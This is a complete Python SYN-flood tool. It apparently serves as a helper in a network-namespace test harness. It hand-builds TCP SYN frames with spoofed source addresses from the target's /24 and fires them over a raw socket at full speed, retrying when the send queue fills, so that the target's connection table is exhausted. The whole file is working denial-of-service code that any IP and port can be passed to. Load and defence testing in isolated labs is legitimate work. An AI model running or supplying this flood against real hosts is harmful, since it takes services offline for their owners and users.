#!/usr/bin/python3
"""SYN flood from inside the client namespace: COUNT SYNs to GW_IP:PORT from
random sources in the gateway's /24, .3-.254 (addresses nobody owns, so
nothing answers the SYN-ACKs), random ports and sequence numbers, sent on a
raw socket as fast as it goes. Frames are built with struct beforehand
(scapy per packet would be the bottleneck). With STOPFILE, it keeps cycling
through the COUNT frames (repeats are retransmitted SYNs) until that file
exists, at most PASSES times, so that the flood lasts as long as whatever it
runs against. Prints "ready" when it starts sending, then one JSON line:
{"sent": n, "seconds": s}.

  syn_flood.py IFNAME GW_MAC SRC_MAC GW_IP PORT COUNT SEED [STOPFILE [PASSES]]
"""
import os
import json
import random
import socket
import struct
import sys
import time


def csum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def main():
    ifc, gw_mac, src_mac, gw_ip, port, count, seed = sys.argv[1:8]
    port, count = int(port), int(count)
    stopfile = sys.argv[8] if len(sys.argv) > 8 else None
    passes = int(sys.argv[9]) if len(sys.argv) > 9 else 10
    rnd = random.Random(int(seed))
    eth = bytes.fromhex(gw_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00"
    dst = socket.inet_aton(gw_ip)
    net = dst[:3]
    frames = []
    for _ in range(count):
        src = net + bytes([rnd.randint(3, 254)])
        sport = rnd.randint(1024, 65535)
        seq = rnd.getrandbits(32)
        opts = struct.pack("!BBH", 2, 4, 1460)
        tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, (5 + 1) << 4, 0x02, 64240, 0, 0) + opts
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rnd.getrandbits(16), 0,
                         64, 6, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        frames.append(eth + ip + tcp)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind((ifc, 0))
    print("ready", flush=True)
    start = time.monotonic()
    sent = 0
    for p in range(passes if stopfile else 1):
        if p and os.path.exists(stopfile):
            break
        for f in frames:
            while True:
                try:
                    s.send(f)
                    break
                except OSError:          # ENOBUFS: the queue is full, try again
                    time.sleep(0.0005)
            sent += 1
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}))


if __name__ == "__main__":
    main()
